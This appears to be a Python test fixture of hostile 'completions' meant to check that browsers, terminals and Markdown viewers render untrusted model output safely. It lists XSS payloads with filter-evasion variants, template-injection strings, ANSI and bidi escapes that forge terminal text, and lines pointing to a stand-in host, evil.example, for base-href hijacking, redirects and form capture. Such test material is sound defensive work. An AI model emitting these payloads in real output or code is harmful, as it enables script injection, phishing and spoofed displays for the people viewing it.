"""Completions that attack whoever looks at them: a browser, a terminal, a Markdown viewer."""

MARK = "window.__owned=1"

HOSTILE = [
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"</SCRIPT ><ScRiPt>{MARK}</sCrIpT>",
    f"</style><script>{MARK}</script>",
    f"<!--<script>{MARK}</script>-->",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f"<svg onload={MARK}>",
    '<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>',
    f'"><body onload={MARK}>',
    f"' autofocus onfocus={MARK} x='",
    f'<a href="javascript:{MARK}">click</a>',
    f"<details open ontoggle={MARK}>",
    f"<math><mtext></table></math><img src onerror={MARK}>",
    f"<template><script>{MARK}</script></template>",
    "<base href='https://evil.example/'><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{display:none}</style><form action=https://evil.example/><button autofocus>",
    "{{ 7 * 7 }}{% raw %}{{ run.entry }}{% endraw %}{# #}",
    "${" + MARK + "}`" + MARK + "`",
    "\x1b[31m\x1b]0;owned\x07\x9b2J\u202egnihsif\u2066\rerror: forged\nerror: forged [bold]x[/red] <script>",
    "\u2028\u2029\x00\ufeff\ud800",
    "a" * 1_000_000,
    ("<b>" * 1000 + "\n") * 100,
    "@everyone ![x](https://evil.example/x.png) [x](javascript:alert(1)) | ``` |\n# not a heading",
]
